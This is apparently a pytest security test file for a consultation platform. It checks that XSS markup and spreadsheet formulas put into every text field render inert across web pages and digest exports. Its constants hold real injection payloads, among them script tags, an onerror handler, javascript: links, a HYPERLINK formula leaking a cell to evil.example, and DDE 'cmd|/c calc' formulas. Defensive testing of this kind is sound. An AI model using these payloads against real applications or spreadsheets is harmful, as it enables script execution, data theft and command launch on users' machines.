"""Markup and formulas typed into any field come out inert on every page and in every digest.

Every free-text field (titles, bodies, recommendations, summaries, feedback,
return questions, organisation and person names, consultation texts, file
names) carries a ``<script>`` tag, an event-handler attribute, a
``javascript:`` link and a spreadsheet formula. Each page and each digest
format is then parsed: no script, no ``on*`` attribute, no ``javascript:``
URL may come out of the text, and no spreadsheet cell may be a formula.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from html.parser import HTMLParser

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select

from consult.extensions import db
from consult.inputs.events import ReviewEvent
from consult.inputs.models import GuidingQuestion
from consult.inputs.states import Attribution, Status
from consult.submissions.attachments import store_attachment
from tests import factories

SCRIPT = '<script>alert("xss-script")</script>'
HANDLER = "<img src=x onerror=\"alert('xss-handler')\">"
JS_URL = "<a href=\"javascript:alert('xss-link')\">open</a>"
BARE_JS = "javascript:alert('xss-bare')"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PAYLOAD = f"{SCRIPT} {HANDLER} {JS_URL}"
#: Field values that start with a formula character (a spreadsheet would run them).
FORMULA_STARTS = (
    FORMULA,
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)


class Inspector(HTMLParser):
    """Collects what would run in a browser."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.handlers: list[tuple[str, str]] = []
        self.js_urls: list[tuple[str, str]] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self._in_script = True
            self.scripts.append(dict(attrs).get("src") or "")
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if value and value.strip().lower().replace("\x00", "").startswith("javascript:"):
                self.js_urls.append((tag, name))

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False


def assert_inert_html(html: str, where: str, *, must_show: bool = True) -> None:
    inspector = Inspector()
    inspector.feed(html)
    assert not [s for s in inspector.scripts if "xss" in s], f"script ran on {where}"
    assert not inspector.handlers, f"event handler attribute on {where}: {inspector.handlers}"
    assert not inspector.js_urls, f"javascript: URL on {where}: {inspector.js_urls}"
    assert "xss-script" not in "".join(inspector.scripts)
    if must_show:
        # The text is shown (escaped), so the check above was not vacuous.
        assert "&lt;script&gt;" in html or "&lt;script" in html, f"payload not shown on {where}"


@pytest.fixture
def hostile(app, consultation, moderator_user, hq_user, last_month, png_bytes, publish):
    """An organisation, people and inputs whose every text field is hostile."""
    org = factories.make_organisation(f"Org {SCRIPT}", ["TN"])
    member = factories.make_user(
        "hostile@org.example.org", "cso", organisation=org, full_name=f"Name {HANDLER}"
    )
    member.is_org_admin = True
    moderator_user.full_name = f"Moderator {SCRIPT}"
    consultation.title = f"Consultation {SCRIPT}"
    consultation.description = f"Description {PAYLOAD} {BARE_JS}"
    db.session.add(
        GuidingQuestion(
            consultation_id=consultation.id, priority_slug="ssr", text=f"Q {PAYLOAD}", position=5
        )
    )
    db.session.commit()
    common = {
        "body": f"{PAYLOAD}\n{BARE_JS}\nhttp://example.org/{SCRIPT}",
        "recommendations": (("eu", f"{FORMULA} {PAYLOAD}"), ("eud", FORMULA_STARTS[1])),
        "themes": ("youth",),
    }
    forwarded = factories.make_input(
        consultation,
        member,
        status=Status.FORWARDED,
        title=f"{FORMULA} {SCRIPT}",
        attribution=Attribution.ATTRIBUTABLE,
        moderator_summary=f"{FORMULA_STARTS[2]} {PAYLOAD}",
        hq_note=f"{FORMULA_STARTS[3]} {HANDLER}",
        hq_feedback=f"Feedback {JS_URL}",
        **common,
    )
    forwarded.reviewed_title = f"{FORMULA_STARTS[3]} {SCRIPT}"
    forwarded.reviewed_body = f"{FORMULA} {PAYLOAD} {BARE_JS}"
    returned = factories.make_input(
        consultation, member, status=Status.RETURNED, title=f"Returned {HANDLER}", **common
    )
    db.session.add(
        ReviewEvent(
            input_id=returned.id,
            actor_id=moderator_user.id,
            kind="returned",
            message=f"Question {PAYLOAD} {BARE_JS}",
            is_visible_to_cso=True,
        )
    )
    draft = factories.make_input(
        consultation, member, status=Status.DRAFT, title=f"Draft {SCRIPT}", **common
    )
    store_attachment(member, io.BytesIO(png_bytes()), f"{SCRIPT}.png", item=forwarded)
    # Forwarded in a month that is over, and released with k=1 so that the one
    # hostile input is listed in the external files too (not withheld as a small group).
    forwarded.forwarded_at = last_month()
    db.session.commit()
    publish(consultation.slug, k=1)
    return {
        "member": member,
        "org": org,
        "forwarded": forwarded,
        "returned": returned,
        "draft": draft,
        "consultation": consultation,
        "moderator": moderator_user,
        "hq": hq_user,
    }


def _get(app, user, url: str) -> str:
    client = factories.login(app.test_client(), user)
    response = client.get(url)
    assert response.status_code == 200, f"{url}: {response.status_code}"
    return response.get_data(as_text=True)


def test_every_page_shows_hostile_text_inert(app, hostile, admin_user):
    h = hostile
    f, r, d, c = h["forwarded"], h["returned"], h["draft"], h["consultation"]
    pages = {
        h["member"]: [
            "/my_inputs",
            f"/inputs/{f.id}",
            f"/inputs/{r.id}",
            f"/inputs/{d.id}/edit",
            f"/inputs/{r.id}/revise",
            "/consultations",
            f"/consultations/{c.id}",
            f"/consultations/{c.id}/inputs/new",
            "/organisation/data",
        ],
        h["moderator"]: ["/review/queue", f"/review/inputs/{f.id}", f"/review/inputs/{r.id}"],
        h["hq"]: [
            "/review/queue",
            "/review/forwarded",
            f"/review/inputs/{f.id}",
            "/digest/",
            "/digest/?audience=internal",
        ],
        admin_user: [
            "/admin/",
            "/admin/users",
            f"/admin/users/{h['member'].id}",
            "/admin/organisations",
            f"/admin/organisations/{h['org'].id}",
            "/admin/consultations",
            f"/admin/consultations/{c.id}",
            "/admin/audit",
            f"/review/inputs/{f.id}/original",
        ],
    }
    shown = 0
    for user, urls in pages.items():
        for url in urls:
            html = _get(app, user, url)
            assert_inert_html(html, url, must_show=False)
            shown += "&lt;script&gt;" in html or "&lt;img" in html
    # Nearly every page shows some of the hostile text, escaped.
    assert shown >= len([u for urls in pages.values() for u in urls]) - 4


@pytest.mark.parametrize("audience", ["internal", "external"])
def test_html_report_is_inert(app, hostile, audience):
    html = _get(app, hostile["hq"], f"/digest/download/html?audience={audience}")
    assert_inert_html(html, f"HTML report ({audience})")


@pytest.mark.parametrize("audience", ["internal", "external"])
def test_csv_cells_never_start_a_formula(app, hostile, audience):
    text = _get(app, hostile["hq"], f"/digest/download/csv?audience={audience}")
    recs = _get(
        app, hostile["hq"], f"/digest/download/csv?audience={audience}&part=recommendations"
    )
    cells = [
        cell for source in (text, recs) for row in csv.reader(io.StringIO(source)) for cell in row
    ]
    if audience == "internal":  # external digests may redact the URL inside it
        assert any(FORMULA in cell for cell in cells), "the formula text is missing"
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert f"'{FORMULA_STARTS[1]}" in cells  # shown as text, with a leading apostrophe


@pytest.mark.parametrize("audience", ["internal", "external"])
def test_xlsx_has_no_formulas(app, hostile, audience):
    client = factories.login(app.test_client(), hostile["hq"])
    response = client.get(f"/digest/download/xlsx?audience={audience}")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                if cell.hyperlink is not None:
                    assert not str(cell.hyperlink.target or "").lower().startswith("javascript:")
                if isinstance(cell.value, str):
                    values.append(cell.value)
    if audience == "internal":
        assert any(FORMULA in v for v in values), "the formula text is missing"
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize("audience", ["internal", "external"])
def test_docx_holds_text_not_markup_or_links(app, hostile, audience):
    client = factories.login(app.test_client(), hostile["hq"])
    response = client.get(f"/digest/download/docx?audience={audience}")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    for name in archive.namelist():
        if name.endswith(".rels"):
            assert b"javascript:" not in archive.read(name).lower(), name
        if name.endswith(".xml"):
            # Text is XML-escaped inside w:t; a raw tag would break or inject markup.
            assert b"<script" not in archive.read(name), name
    text = "\n".join(p.text for p in Document(io.BytesIO(response.data)).paragraphs)
    tables = "\n".join(
        cell.text
        for table in Document(io.BytesIO(response.data)).tables
        for row in table.rows
        for cell in row.cells
    )
    assert "<script>" in text + tables  # shown literally, as text


def test_json_is_data_served_as_json(app, hostile):
    client = factories.login(app.test_client(), hostile["hq"])
    response = client.get("/digest/download/json?audience=internal")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    (item,) = json.loads(response.data)["inputs"]
    assert item["title"].endswith(SCRIPT)  # data, never rendered as HTML


def test_attachment_download_cannot_render_as_a_page(app, hostile):
    h = hostile
    client = factories.login(app.test_client(), h["moderator"])
    att = h["forwarded"].attachments[0]
    response = client.get(f"/review/attachments/{att.id}")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "<script>" not in response.headers["Content-Disposition"]
    assert db.session.scalar(select(GuidingQuestion).where(GuidingQuestion.position == 5))


def test_xlsx_headers_and_reference_names_are_escaped_too(app, hostile):
    """A theme, type or country renamed to a formula heads columns and rows: still text."""
    from consult.reference.models import Country, InputType, Theme

    db.session.get(Theme, "youth").name = '=HYPERLINK("http://evil.example.com")'
    db.session.get(InputType, "context-analysis").name = "+cmd|' /C calc'!A0"
    db.session.get(Country, "TN").name = "@SUM(1+1)"
    db.session.commit()
    client = factories.login(app.test_client(), hostile["hq"])
    response = client.get("/digest/download/xlsx?audience=internal")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    headers = {
        sheet.title: [c.value for c in next(sheet.iter_rows(max_row=1))]
        for sheet in workbook.worksheets
    }
    assert '\'=HYPERLINK("http://evil.example.com")' in headers["Themes"]
    assert "'+cmd|' /C calc'!A0" in headers["Types"]
    assert "'@SUM(1+1)" in headers["Matrix"]
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
